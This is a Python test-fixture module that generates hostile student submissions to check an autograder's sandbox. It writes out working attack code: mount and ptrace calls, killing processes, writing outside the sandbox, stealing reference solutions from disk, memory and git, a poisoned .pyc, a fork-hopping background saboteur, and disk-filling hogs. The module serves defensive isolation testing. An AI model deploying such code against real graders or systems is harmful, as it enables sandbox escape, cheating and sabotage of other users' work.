"""Hostile submissions for tests/test_isolation.py, as source text.

Each payload does its damage and then *says what it achieved*: the functions it installs in place
of the exercise's items raise ``RuntimeError("ATTACK-REPORT key=value ...")``, which the grader
shows in the items' feedback. A test then asserts both that the attack ran (the report is there,
``ran=1``) and that each step was refused, so no test passes because a payload died at import.
"""

from __future__ import annotations

import re
import textwrap

from grader import catalogue

REPORT_PATTERN = re.compile(r"ATTACK-REPORT ((?:\w+=\S*\s?)+)")


def parse_report(text: str) -> dict[str, str] | None:
    """``{key: value}`` of the first ATTACK-REPORT in ``text``, or None."""
    match = REPORT_PATTERN.search(text)
    if match is None:
        return None
    return dict(pair.split("=", 1) for pair in match.group(1).split())


def report_in(exercise: dict) -> dict[str, str] | None:
    """The attack report found in the feedback of an exercise of a ``--json`` document."""
    for item in exercise["items"]:
        for line in item["feedback"]:
            found = parse_report(line)
            if found is not None:
                return found
    return None


def item_names(module: str | None = None) -> list[str]:
    modules = catalogue.load_catalogue()
    return [i.name for m in modules if module is None or m.name == module for i in m.items]


# ---------------------------------------------------------------- a: escape, read, steal
_ESCAPE = r'''
# ===================== attack payload (tests/test_isolation.py) =====================
import ctypes as _ctypes
import errno as _errno
import gc as _gc
import glob as _glob
import importlib as _importlib
import os as _os
import signal as _signal
import site as _site
import subprocess as _subprocess
import sys as _sys
import sysconfig as _sysconfig

_TOKEN = {token!r}
_KIT = {kit!r}
_ITEMS = set({items!r})
_EX01_ITEMS = {ex01_items!r}
_KIT_PACKAGES = ("grader", "solutions", "tests", "_reference_solutions", "_hidden_suites", "hidden")
_REPORT = {{}}
_STOLEN = {{}}
_libc = _ctypes.CDLL(None, use_errno=True)


def _why(error):
    number = getattr(error, "errno", None)
    return _errno.errorcode.get(number, type(error).__name__) if number else type(error).__name__


def _c_call(result):
    if result != 0:
        number = _ctypes.get_errno()
        raise OSError(number, _os.strerror(number))


def _grader_dirs():
    dirs = {{_os.path.join(_KIT, "grader"), "/kit/grader"}}
    try:
        import grader
        dirs.add(_os.path.dirname(_os.path.abspath(grader.__file__)))
    except BaseException:
        pass
    return sorted(dirs)


def _remount():
    results = []
    MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096
    for target in ["/", *_grader_dirs()]:
        if not _os.path.isdir(target):
            continue
        try:
            _c_call(_libc.mount(None, target.encode(), None, MS_REMOUNT | MS_BIND, None))
            outcome = "ok"
        except OSError as error:
            outcome = _why(error)
        try:
            _c_call(_libc.mount(None, target.encode(), None, MS_REMOUNT, None))
            outcome += "+ok"
        except OSError as error:
            outcome += "+" + _why(error)
        results.append(outcome)
    _REPORT["remount"] = ",".join(results) or "none"


def _tmpfs_over_own_folder():
    try:
        _c_call(_libc.mount(b"tmpfs", _os.getcwd().encode(), b"tmpfs", 0, b"size=1m"))
        _REPORT["tmpfs"] = "ok"
    except OSError as error:
        _REPORT["tmpfs"] = _why(error)


def _own_ids():
    own = {{_os.getpid()}}
    try:
        for task in _os.listdir("/proc/self/task"):
            own.add(int(task))
            with open(f"/proc/self/task/{{task}}/status") as status:
                for line in status:
                    if line.startswith("NSpid:"):
                        own.update(int(n) for n in line.split()[1:])
    except (OSError, ValueError):
        pass
    if _os.getppid() == 0 and _os.getpid() != 1:
        # our parent is outside our PID namespace: pid 1 here is the box's own init (a `sleep` that
        # only waits), part of this submission's box; a pid number read from the outer /proc
        # would name it too. Reaching it says nothing about the grader.
        own.add(1)
    return own


def _ptrace_and_kill():
    PTRACE_ATTACH, PTRACE_DETACH = 16, 17
    parent = _os.getppid()
    if parent > 0:
        if _libc.ptrace(PTRACE_ATTACH, parent, None, None) == 0:
            _REPORT["ptrace_parent"] = "ok"
            _libc.ptrace(PTRACE_DETACH, parent, None, None)
        else:
            _REPORT["ptrace_parent"] = _errno.errorcode.get(_ctypes.get_errno(), "?")
        try:
            _os.kill(parent, _signal.SIGKILL)
            _REPORT["kill_parent"] = "ok"
        except OSError as error:
            _REPORT["kill_parent"] = _why(error)
    else:
        _REPORT["ptrace_parent"] = _REPORT["kill_parent"] = "noparent"
    own = _own_ids()
    pids = [int(n) for n in _os.listdir("/proc") if n.isdigit() and int(n) not in own]
    traced = signalled = 0
    for pid in pids:
        if _libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            traced += 1
            _libc.ptrace(PTRACE_DETACH, pid, None, None)
    for pid in pids:
        try:
            _os.kill(pid, _signal.SIGKILL)
            signalled += 1
        except OSError:
            pass
    _REPORT["traced"] = f"{{traced}}/{{len(pids)}}"
    _REPORT["signalled"] = f"{{signalled}}/{{len(pids)}}"


def _write_outside():
    places = set(_grader_dirs())
    places.update(_site.getsitepackages())
    places.add(_sysconfig.get_paths()["purelib"])
    places.update(["/usr", "/usr/lib", "/usr/local", "/", "/etc", _KIT, _os.path.join(_KIT, "solutions"),
                   _os.path.join(_KIT, "tests", "hidden"), "/kit", "/staging"])
    wrote = []
    for place in sorted(places):
        try:
            with open(_os.path.join(place, f"pwned-{{_TOKEN}}"), "w") as out:
                out.write("escaped")
            wrote.append(place)
        except OSError:
            pass
    _REPORT["wrote"] = f"{{len(wrote)}}/{{len(places)}}"
    if wrote:
        _REPORT["wrote_to"] = ",".join(wrote)[:120]


def _candidate_folders():
    folders = {{_os.path.join(_KIT, "solutions"), "/kit/solutions"}}
    for grader_dir in _grader_dirs():
        folders.add(_os.path.join(_os.path.dirname(grader_dir), "solutions"))
    for packages in _site.getsitepackages():
        folders.add(_os.path.join(packages, "solutions"))
    budget = [20000]
    for root in ("/", "/work", "/home", "/root", "/opt", "/srv", "/app", "/autograder", "/tmp", "/var/tmp",
                 "/mnt", "/kit"):
        base = root.rstrip("/").count("/")
        for current, dirs, _files in _os.walk(root):
            budget[0] -= 1
            if budget[0] < 0:
                break
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr") or current != "/"]
            if current.rstrip("/").count("/") - base >= 4:
                dirs[:] = []
            for name in dirs:
                if name in ("solutions", "hidden"):
                    folders.add(_os.path.join(current, name))
    return sorted(folders)


def _read_references():
    refs = hidden = 0
    for folder in _candidate_folders():
        for path in _glob.glob(_os.path.join(folder, "*.py")):
            try:
                with open(path) as source_file:
                    source = source_file.read()
            except OSError:
                continue
            if _os.path.basename(folder) == "hidden":
                hidden += 1
                continue
            refs += 1
            scope = {{"__name__": "stolen_reference"}}
            try:
                exec(compile(source, path, "exec"), scope)
            except BaseException:
                continue
            for name, value in scope.items():
                if name in _ITEMS and callable(value):
                    _STOLEN.setdefault(name, value)
    _REPORT["refs"] = str(refs)
    _REPORT["hidden"] = str(hidden)


def _is_kit_code(value):
    module = getattr(value, "__module__", None) or ""
    if module.split(".")[0] in _KIT_PACKAGES:
        return True
    code = getattr(value, "__code__", None)
    filename = code.co_filename if code is not None else ""
    return filename.startswith((_KIT + "/", "/kit/"))


def _steal_from_memory():
    for name in ("grader.fixtures", "grader.fixtures_ex04", "grader.fixtures_ex05", "grader.fixtures_ex06",
                 "grader.fixtures_ex07", "grader.fixtures_ex08", "grader.fixtures_ex09", "grader.engine"):
        try:
            _importlib.import_module(name)
        except BaseException:
            pass
    own_file = _os.path.abspath(__file__)
    found = {{}}
    for value in _gc.get_objects():
        try:
            if not isinstance(value, (type(_why), type)) or getattr(value, "__name__", None) not in _ITEMS:
                continue
            code = getattr(value, "__code__", None)
            if code is not None and _os.path.abspath(code.co_filename) == own_file:
                continue
            if (getattr(value, "__module__", "") or "").startswith("ex0"):
                continue
            if _is_kit_code(value):
                found.setdefault(value.__name__, value)
        except BaseException:
            continue
    for module_name, module in list(_sys.modules.items()):
        if module_name.split(".")[0] not in _KIT_PACKAGES:
            continue
        for name, value in list(vars(module).items()):
            if name in _ITEMS and callable(value):
                found.setdefault(name, value)
    for name, value in found.items():
        _STOLEN.setdefault(name, value)


def _git_history():
    try:
        shown = _subprocess.run(["git", "-c", "safe.directory=*", "-C", _KIT, "show",
                                 "HEAD:solutions/ex01_tensors.py"], capture_output=True, timeout=20)
        _REPORT["git"] = "LEAKED" if b"def from_nested" in shown.stdout else "denied"
    except BaseException as error:
        _REPORT["git"] = _why(error)


for _step in (_remount, _tmpfs_over_own_folder, _ptrace_and_kill, _write_outside, _read_references,
              _steal_from_memory, _git_history):
    try:
        _step()
    except BaseException as _error:
        _REPORT[_step.__name__.strip("_")] = "crashed:" + type(_error).__name__
_REPORT["stolen"] = ",".join(sorted(_STOLEN)) or "-"
_REPORT["ran"] = "1"
_SUMMARY = "ATTACK-REPORT " + " ".join(f"{{k}}={{v}}" for k, v in _REPORT.items())


def _install_stolen(scope):
    """Replace every item the module defines by a stolen function of the same name."""
    for name, value in _STOLEN.items():
        if name in scope:
            scope[name] = value


def _install_reports(scope):
    """ex01: a stolen item where there is one, else a function that reports what the attack did."""
    def reporter(*args, **kwargs):
        raise RuntimeError(_SUMMARY)

    for name in _EX01_ITEMS:
        scope[name] = _STOLEN.get(name, reporter)
# ===================== end of the attack payload =====================
'''


def escape_payload(token: str) -> str:
    """Source for the top of ex01_tensors.py: every escape the brief lists; ends with the installers."""
    return _ESCAPE.format(token=token, kit=str(catalogue.KIT_ROOT.resolve()), items=sorted(item_names()),
                          ex01_items=item_names("ex01_tensors"))


def with_escape_payload(stub_source: str, token: str) -> str:
    """The stub of ex01 with the payload at its top (after the future import) and the installer at its end."""
    future = "from __future__ import annotations\n"
    return future + escape_payload(token) + "\n" + stub_source.replace(future, "", 1) + "\n\n_install_reports(globals())\n"


ESCAPE_OTHER_TAIL = "\n\nfrom ex01_tensors import _install_stolen\n_install_stolen(globals())\n"


# ---------------------------------------------------------------- b: a batch attacker
_BACKGROUND = r'''
import ctypes, json, os, signal, sys, time
mark, beat_dir, own, fd = sys.argv[1], sys.argv[3], sys.argv[4], int(sys.argv[5])
worker = {int(n) for n in sys.argv[2].split(",")}  # the worker's pid and thread ids: it spares its own box
roots = json.loads(sys.argv[6])
try:
    ctypes.CDLL(None).prctl(15, mark[:15].encode(), 0, 0, 0)
except Exception:
    pass
SABOTAGE = "raise SystemExit('overwritten by the attacker')\n"
end = time.time() + 60
rounds = 0
while time.time() < end:
    rounds += 1
    me = os.getpid()
    signalled = overwritten = 0
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in worker and int(name) not in (me, 1):
            try:
                os.kill(int(name), signal.SIGKILL)
                signalled += 1
            except OSError:
                pass
    for root in roots:
        seen = 0
        for current, dirs, files in os.walk(root):
            seen += 1
            if seen > 5000 or current == own or current.startswith(own + "/"):
                dirs[:] = []
                continue
            for name in files:
                if name.startswith("ex0") and name.endswith(".py"):
                    try:
                        with open(os.path.join(current, name), "w") as target:
                            target.write(SABOTAGE)
                        overwritten += 1
                    except OSError:
                        pass
    try:
        with open(os.path.join(beat_dir, "beat-" + mark), "w") as beat:
            beat.write(f"{rounds} {time.time()}")
    except OSError:
        pass
    if fd >= 0:
        os.write(fd, f"alive,pid={me},signalled={signalled},overwritten={overwritten}".encode())
        os.close(fd)
        fd = -1
    time.sleep(1)
    if os.fork() > 0:
        os._exit(0)
'''

_ATTACKER = r'''
# ===================== batch attacker (tests/test_isolation.py) =====================
import ctypes as _ctypes
import errno as _errno
import importlib.util as _importlib_util
import json as _json
import marshal as _marshal
import os as _os
import select as _select
import sys as _sys

_MARK = {mark!r}
_BEAT_DIR = {beat_dir!r}
_ROOTS = {roots!r}
_BACKGROUND = {background!r}
_EX01_ITEMS = {ex01_items!r}
_REPORT = {{}}
_here = _os.getcwd()


def _why(error):
    number = getattr(error, "errno", None)
    return _errno.errorcode.get(number, type(error).__name__) if number else type(error).__name__


try:  # an unchecked hash-based .pyc: Python would load it whatever ex06_data.py says
    _pyc = _importlib_util.cache_from_source(_os.path.join(_here, "ex06_data.py"))
    _os.makedirs(_os.path.dirname(_pyc), exist_ok=True)
    _code = compile("raise SystemExit('sabotaged by a planted pyc')\n", _os.path.join(_here, "ex06_data.py"), "exec")
    with open(_pyc, "wb") as _out:
        _out.write(_importlib_util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8) + _marshal.dumps(_code))
    _REPORT["pyc"] = "ok"
except BaseException as _error:
    _REPORT["pyc"] = _why(_error)

try:
    _libc = _ctypes.CDLL(None, use_errno=True)
    if _libc.mount(b"tmpfs", _here.encode(), b"tmpfs", 0, b"size=1m") == 0:
        _REPORT["mount"] = "ok"
    else:
        _REPORT["mount"] = _errno.errorcode.get(_ctypes.get_errno(), "?")
except BaseException as _error:
    _REPORT["mount"] = _why(_error)

try:  # the background process: double fork, setsid, exec (so its command line names it), fork-hopping
    _read_end, _write_end = _os.pipe()
    _os.set_inheritable(_write_end, True)
    _worker = {{_os.getpid()}}
    for _task in _os.listdir("/proc/self/task"):  # its threads, numbered as a kill() from the box sees them
        _worker.add(int(_task))
        with open(f"/proc/self/task/{{_task}}/status") as _status:
            _worker.update(int(n) for line in _status if line.startswith("NSpid:") for n in line.split()[1:])
    _child = _os.fork()
    if _child == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv(_sys.executable, [_sys.executable, "-c", _BACKGROUND, _MARK, ",".join(map(str, sorted(_worker))), _BEAT_DIR,
                                            _here, str(_write_end), _json.dumps(_ROOTS)])
        finally:
            _os._exit(0)
    _os.close(_write_end)
    _os.waitpid(_child, 0)
    _said = b""
    if _select.select([_read_end], [], [], 30)[0]:
        _said = _os.read(_read_end, 200)
    _os.close(_read_end)
    _REPORT["bg"] = _said.decode(errors="replace") or "silent"
except BaseException as _error:
    _REPORT["bg"] = "failed:" + _why(_error)

try:
    with open(_os.path.join(_here, "locked"), "w") as _out:
        _out.write("x")
    _os.chmod(_os.path.join(_here, "locked"), 0)
    _os.chmod(_here, 0o500)
    _REPORT["chmod"] = "ok"
except BaseException as _error:
    _REPORT["chmod"] = _why(_error)

_REPORT["ran"] = "1"
_SUMMARY = "ATTACK-REPORT " + " ".join(f"{{k}}={{v}}" for k, v in _REPORT.items())


def _reporter(*args, **kwargs):
    raise RuntimeError(_SUMMARY)


for _name in _EX01_ITEMS:
    globals()[_name] = _reporter
# ===================== end of the batch attacker =====================
'''


def batch_attacker(mark: str, beat_dir: str, roots: list[str]) -> str:
    """A whole ex01_tensors.py that attacks the submissions graded after it (see test_isolation)."""
    return textwrap.dedent(_ATTACKER).format(mark=mark, beat_dir=beat_dir, roots=roots, background=_BACKGROUND,
                                             ex01_items=item_names("ex01_tensors"))


# ---------------------------------------------------------------- d: disk hogs
def hog_tmp(token: str) -> str:
    """Overrides ex01.from_nested: one 2 GiB file in /tmp, written in 1 MiB chunks."""
    return textwrap.dedent(f'''

        def from_nested(data, dtype=None):
            chunk = b"\\0" * 2**20
            with open("/tmp/hog-{token}", "wb") as hog:
                for _ in range(2048):
                    hog.write(chunk)
            return torch.tensor(data, dtype=dtype)
    ''')


def hog_own_folder(token: str) -> str:
    """Overrides ex02.load_temperatures: 1000 files of 1 MiB in the submission's own folder."""
    return textwrap.dedent(f'''

        def load_temperatures():
            import os
            chunk = b"\\0" * 2**20
            for number in range(1000):
                with open(os.path.join(os.getcwd(), f"hog-{token}-{{number}}"), "wb") as hog:
                    hog.write(chunk)
            raise RuntimeError("wrote 1000 files of 1 MiB and was never stopped")
    ''')
